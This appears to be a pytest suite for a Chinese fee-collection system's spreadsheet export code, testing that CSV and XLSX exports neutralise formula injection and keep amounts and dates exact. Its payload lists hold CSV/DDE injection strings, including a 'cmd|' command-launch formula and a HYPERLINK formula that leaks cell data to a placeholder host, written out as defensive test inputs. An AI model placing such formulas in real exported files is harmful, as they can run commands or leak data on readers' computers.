"""Exports run nothing on the reader's computer and import again unchanged."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from renfang.exchange.reading.spreadsheet import read_spreadsheet
from renfang.exchange.safe_cells import guard, unguard
from renfang.exchange.workbook import (
    ExportChart,
    ExportColumn,
    ExportSheet,
    Kind,
    TooLarge,
    csv_chunks,
    write_sheets,
    write_xlsx,
)

LEADS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", " =", "\u3000@", "'=", "''+"]
TAILS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"看")', "SUM(A1:A9)", "", "张三"]
TAILS += ["2+5+cmd|' /C calc'!A0", "IMPORTXML(CONCAT(A1),1)", "DDE(1)", "-1", "@x", "'", "=", '"']
PAYLOADS = [lead + tail for lead in LEADS for tail in TAILS]
COLUMNS = [
    ExportColumn("项目名称", width=30),
    ExportColumn("应缴（元）", Kind.AMOUNT),
    ExportColumn("应建面积（㎡）", Kind.AREA),
    ExportColumn("层数", Kind.INTEGER),
    ExportColumn("缴费期限", Kind.DATE),
]
ROW = ("金水湾", Decimal("411675.00"), Decimal("274.45"), 18, date(2026, 3, 5))


def xlsx(rows, columns=COLUMNS):
    target = io.BytesIO()
    assert write_xlsx(target, columns, rows) == len(rows)
    return target.getvalue()


def test_there_are_two_hundred_payloads():
    assert len(PAYLOADS) >= 200


@pytest.mark.parametrize("lead", LEADS, ids=ascii)
def test_active_text_is_guarded_by_one_apostrophe(lead):
    for tail in TAILS:
        assert guard(lead + tail) == "'" + lead + tail


@pytest.mark.parametrize("text", ["张三", "1-2", "'甲", "", " ", "''", "2026-03-05", "＃", "a=b"])
def test_quiet_text_is_left_alone(text):
    assert guard(text) == unguard(text) == text


@given(st.text() | st.text(alphabet="'=+-@＝ \t\u3000a"))
def test_unguard_is_the_exact_inverse_of_guard(text):
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in set("=+-@＝＋－＠\t\r\n")


def test_payloads_survive_a_round_trip_through_csv_and_start_no_formula():
    content = b"".join(csv_chunks(COLUMNS[:1], [(text,) for text in PAYLOADS]))
    assert content.startswith(b"\xef\xbb\xbf")
    rows = read_spreadsheet(content)[0].rows
    assert [row.cell(0) for row in rows[1:]] == PAYLOADS


def test_payloads_survive_a_round_trip_through_xlsx_as_text():
    content = xlsx([(text,) for text in PAYLOADS], COLUMNS[:1])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for (cell,) in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)
    # XML readers turn a carriage return into a line feed; nothing else may change.
    read = [row.cell(0) for row in read_spreadsheet(content)[0].rows[1:]]
    assert [text.replace("\r", "\n") for text in read] == [
        text.replace("\r", "\n") for text in PAYLOADS
    ]


def test_workbook_holds_numbers_and_dates_as_such():
    content = xlsx([ROW, (None, None, None, None, None)])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet["B2"].value == 411675
    assert sheet["B2"].number_format == "#,##0.00"
    assert sheet["A2"].number_format == "@"
    assert sheet["E2"].value == datetime(2026, 3, 5)
    assert sheet["A1"].font.bold


def test_exports_import_again_unchanged():
    rows = read_spreadsheet(xlsx([ROW]))[0].rows
    assert rows[1].cells == ROW
    text = read_spreadsheet(b"".join(csv_chunks(COLUMNS, [ROW])))[0].rows[1].cells
    assert text == ("金水湾", "411675.00", "274.45", "18", "2026-03-05")


@given(st.decimals("-9999999999999.99", "9999999999999.99", places=2))
def test_no_fen_is_lost_in_a_workbook_cell(amount):
    target = io.BytesIO()
    write_xlsx(target, [ExportColumn("应缴", Kind.AMOUNT)], [(amount,)])
    (cell,) = openpyxl.load_workbook(target).active["A2":"A2"][0]
    assert Decimal(format(cell.value, ".15g")) == amount


def test_number_longer_than_excel_keeps_goes_out_as_text():
    assert read_spreadsheet(xlsx([(110101199003071234,)], COLUMNS[:1]))[0].rows[1].cell(0) == (
        "110101199003071234"
    )


def test_negative_amount_in_csv_is_a_number_not_guarded_text():
    content = b"".join(csv_chunks(COLUMNS[1:2], [(Decimal("-5.00"),)])).decode("utf-8-sig")
    assert content.splitlines()[1] == "-5.00"


def test_instants_are_written_in_beijing_time_and_truth_in_chinese():
    at = datetime(2026, 12, 31, 16, 1, tzinfo=UTC)
    content = b"".join(csv_chunks(COLUMNS[:2], [(at, True)])).decode("utf-8-sig")
    assert content.splitlines()[1] == "2027-01-01 00:01:00,是"


def test_float_never_leaves_the_house():
    with pytest.raises(TypeError):
        list(csv_chunks(COLUMNS[:1], [(0.1,)]))
    with pytest.raises(TypeError):
        xlsx([(0.1,)], COLUMNS[:1])


def test_text_that_excel_cannot_hold_is_an_error_not_a_gap():
    with pytest.raises(TooLarge, match="第 2 行第 1 列"):
        write_xlsx(io.BytesIO(), COLUMNS[:1], [("字" * 32_768,)])


def test_sheet_name_is_made_fit():
    target = io.BytesIO()
    write_xlsx(target, COLUMNS, [ROW], sheet_name="欠费[2026]/第1季度:" + "长" * 40)
    (name,) = openpyxl.load_workbook(target).sheetnames
    assert name.startswith("欠费 2026  第1季度")


def test_csv_comes_in_pieces():
    pieces = list(csv_chunks(COLUMNS[:1], (("字" * 100,) for _ in range(2000))))
    assert len(pieces) > 3
    assert b"".join(pieces).decode("utf-8-sig").count("\r\n") == 2001


def test_charts_lie_below_the_rows_and_leave_out_the_totals():
    rows = [["东区", Decimal("2.00"), Decimal("1.00")], ["合计", Decimal("2.00"), Decimal("1.00")]]
    columns = [
        ExportColumn("区划"),
        ExportColumn("应缴", Kind.AMOUNT),
        ExportColumn("实缴", Kind.AMOUNT),
    ]
    charts = [
        ExportChart("应缴与实缴", (1, 2), "bar", stacked=True, totals=1),
        ExportChart("实缴", (2,), "line", most=100),
    ]
    target = io.BytesIO()
    assert write_sheets(target, [ExportSheet("收缴", columns, rows, charts)]) == [2]
    sheet = openpyxl.load_workbook(target)["收缴"]
    bars, line = sheet._charts
    assert bars.anchor._from.row > 2
    assert line.anchor._from.row > bars.anchor.to.row
    first, second = bars.series
    assert first.val.numRef.f == "收缴!$B$2"
    assert second.tx.strRef.f.endswith("!$C$1")
    assert line.series[0].val.numRef.f.endswith("!$C$2:$C$3")
    assert line.y_axis.scaling.max == 100
    assert sheet.cell(2, 2).value == 2


def test_sheet_without_rows_has_no_chart():
    target = io.BytesIO()
    empty = ExportSheet("收缴", COLUMNS, [], [ExportChart("应缴", (1,))])
    assert write_sheets(target, [empty]) == [0]
    assert openpyxl.load_workbook(target)["收缴"]._charts == []
